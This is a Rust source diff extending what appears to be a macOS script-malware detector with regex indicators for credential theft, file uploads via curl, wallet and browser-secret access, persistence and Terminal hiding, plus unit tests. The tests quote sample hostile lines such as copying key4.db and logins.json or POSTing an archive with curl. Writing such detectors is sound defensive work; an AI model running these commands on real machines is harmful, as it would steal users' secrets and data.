@@ -8,37 +8,47 @@ use regex::{Regex, RegexBuilder};
 
 /// Name, pattern (of bytes, and case does not count), and why it matters. AppleScript's spelling and JavaScript's
 /// are one indicator: `display dialog`, `displayDialog`.
-const TABLE: [(&str, &str, &str); 27] = [
+const TABLE: [(&str, &str, &str); 30] = [
     ("do shell script", r"do\s*shell\s*script|\bNSTask\b", "runs a shell command"),
     ("curl", r"\b(?:curl|wget|nscurl)\b", "downloads with a command"),
+    (
+        "upload",
+        r"\bcurl\b[^\n;|]{0,200}?\s(?:-F|--form|--data-binary|-T|--upload-file|-d\s*@|--data\s*@)",
+        "sends files with a command",
+    ),
     (ADMIN, r"administrator\s*privileges", "asks for an administrator's password"),
     (
         "NSURL",
-        r"NSURL(?:Session|Connection|Request)|(?:data|string|init)WithContentsOfURL",
+        r"NS(?:URL(?:Session|Connection|Request|Download)|MutableURLRequest)|(?:data|string|init)WithContentsOfURL",
         "downloads in the process itself",
     ),
     ("eval", r"\beval\s*\(|\brun\s+script\b|\bnew\s+Function\s*\(", "runs code that it builds or downloads"),
     (BASE64, r"base64", "carries or decodes an encoded payload"),
     ("character codes", r"\bcharacter\s+id\b|\bASCII\s+character\b|\bfromCharCode\b", "encodes text as numbers"),
-    (HIDDEN, r"hidden\s*answer", "asks for a password in its own dialog"),
+    (HIDDEN, r"hidden\s*answer|NSSecureTextField", "asks for a password in its own dialog"),
     ("display dialog", r"display\s*(?:dialog|alert)", "shows a dialog"),
     ("password check", r"\bdscl\b.{0,64}authonly", "checks whether a password is correct"),
     ("clipboard", r"the\s*clipboard|\bpbpaste\b|NSPasteboard", "reads or sets the clipboard"),
-    ("keystroke", r"\bkeystroke\b|\bkey\s*code\b", "simulates keystrokes"),
-    ("keychain", r"login\.keychain|\bsecurity\s+(?:find|dump|unlock)-", "accesses stored passwords"),
+    ("keystroke", r"\bkeystroke\b|\bkey\s*code\b|\bclick\s+(?:button|menu|at)\b", "simulates keystrokes or clicks"),
+    (
+        "keychain",
+        r"login\.keychain|\bsecurity\s+(?:find|dump|unlock)-|\bSec(?:Keychain|ItemCopyMatching)",
+        "accesses stored passwords",
+    ),
     (
         "browser data",
-        r"Login Data|Cookies\.binarycookies|cookies\.sqlite|Local Extension Settings",
+        r"Login Data|/Web Data|Cookies\.binarycookies|(?:cookies|formhistory)\.sqlite|key4\.db|logins\.json|Local Extension Settings",
         "reads browsers' secrets",
     ),
     (
         "wallets",
-        r"\bExodus\b|\bElectrum\b|Ledger\s*Live|\bTrezor\b|MetaMask|Coinomi|Atomic[/\s]*(?:Wallet|Local)|/wallets\b",
+        r"\bExodus\b|\bElectrum\b|Ledger\s*Live|\bTrezor\b|MetaMask|Coinomi|\bGuarda\b|TonKeeper|Atomic[/\s]*(?:Wallet|Local)|/wallets\b|\bwallet\.dat\b",
         "accesses cryptocurrency wallets",
     ),
+    ("notes", r"NoteStore\.sqlite|group\.com\.apple\.notes", "reads the user's notes"),
     (
         "persistence",
-        r"LaunchAgents|LaunchDaemons|login\s*item|\bcrontab\b|\blaunchctl\s+(?:load|bootstrap|submit)",
+        r"LaunchAgents|LaunchDaemons|login\s*item|LoginHook|\bcrontab\b|\blaunchctl\s+(?:load|bootstrap|submit)|/\.(?:zshrc|zshenv|zprofile|bash_profile)\b",
         "persists after a restart",
     ),
     ("quarantine", r"com\.apple\.quarantine|\bspctl\b|\bxattr\s+-[a-z]*[cd]", "removes the quarantine attribute"),
@@ -48,14 +58,15 @@ const TABLE: [(&str, &str, &str); 27] = [
     ("mute", r"output\s*muted|set\s+volume\s+0\b", "mutes the Mac"),
     (
         "hide Terminal",
-        r#"Terminal["'].{0,80}(?:\bvisible\b|\bclose\b|\bquit\b|\bhide\b|miniaturi[sz]ed)"#,
+        r#"Terminal["'].{0,80}(?:\bvisible\b|\bclose\b|\bquit\b|\bhide\b|miniaturi[sz]ed)|\b(?:killall|pkill)\s+(?:-\S+\s+)*Terminal\b"#,
         "hides the window that it runs in",
     ),
     ("archive", r"\bditto\s+-c|\bzip\s+-|\btar\s+-?c", "packs files up"),
-    ("system information", r"\bsystem_profiler\b|\bioreg\b|\bsw_vers\b", "looks at what Mac it is on"),
+    ("screenshot", r"\bscreencapture\b|CG(?:WindowList|Display)CreateImage", "takes pictures of the screen"),
+    ("system information", r"\bsystem_profiler\b|\bioreg\b|\bsw_vers\b|\bcsrutil\b", "looks at what Mac it is on"),
     ("messenger", r"api\.telegram\.org|discord(?:app)?\.com/api/", "talks to a messenger's service"),
     ("open location", r"\bopen\s*location\b|\bmount\s*volume\b", "opens an address in another program"),
-    ("ObjC bridge", r"ObjC\.import|\$\.NS|use\s+framework", "calls system libraries"),
+    ("ObjC bridge", r"ObjC\.(?:import|bindFunction)|\$\.NS|use\s+framework", "calls system libraries"),
 ];
 const ADMIN: &str = "with administrator privileges";
 const BASE64: &str = "base64";
@@ -103,12 +114,12 @@ fn mentions(text: &[u8]) -> impl Iterator<Item = Mention> {
     static MENTION: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
         let list = r"without\s+(?:[a-z]+(?:\s+[a-z]+){0,3}(?:\s*,\s*|\s+and\s+)){0,3}";
         let value = r#"["']?\s*:?\s*(?:false\b|!1)"#;
-        let pattern = format!(r"({list})?(hidden\s*answer|administrator\s*privileges)({value})?");
+        let pattern = format!(r"({list})?(hidden\s*answer|NSSecureTextField|administrator\s*privileges)({value})?");
         BytesRegexBuilder::new(&pattern).case_insensitive(true).unicode(false).build().ok()
     });
     let found = MENTION.iter().flat_map(move |mention| mention.captures_iter(text));
     found.map(|found| Mention {
-        name: if found[2][0].eq_ignore_ascii_case(&b'h') { HIDDEN } else { ADMIN },
+        name: if found[2][0].eq_ignore_ascii_case(&b'a') { ADMIN } else { HIDDEN },
         place: found.get_match().range(),
         is_denied: found.get(1).or(found.get(3)).is_some(),
     })
@@ -214,6 +225,18 @@ mod tests {
             ("run script (character id {100,111})", &["eval", "character codes"]),
             ("String.fromCharCode(1,2)", &["character codes"]),
             ("open location \"https://x\"", &["open location"]),
+            ("$.NSSecureTextField.alloc.initWithFrame(r)", &["hidden answer", "ObjC bridge"]),
+            ("$.NSMutableURLRequest.requestWithURL(u)", &["NSURL", "ObjC bridge"]),
+            ("ObjC.bindFunction('system', ['int', ['char *']])", &["ObjC bridge"]),
+            ("curl -s -X POST -F 'file=@/tmp/out.zip' https://a.example", &["curl", "upload"]),
+            ("curl --data-binary @/tmp/out.zip https://a.example", &["curl", "upload"]),
+            ("curl -d a=b https://a.example; tar -F x", &["curl"]),
+            ("cp ~/Library/Group Containers/group.com.apple.notes/NoteStore.sqlite x", &["notes"]),
+            ("screencapture -x /tmp/s.png", &["screenshot"]),
+            ("killall -9 Terminal", &["hide Terminal"]),
+            ("echo x >> ~/.zshrc", &["persistence"]),
+            ("click button 1 of window 1", &["keystroke"]),
+            ("cp key4.db logins.json /tmp", &["browser data"]),
             ("Terminal is a program. It was closed.", &[]),
             ("tell me about the evaluation of tokens", &[]),
         ] {
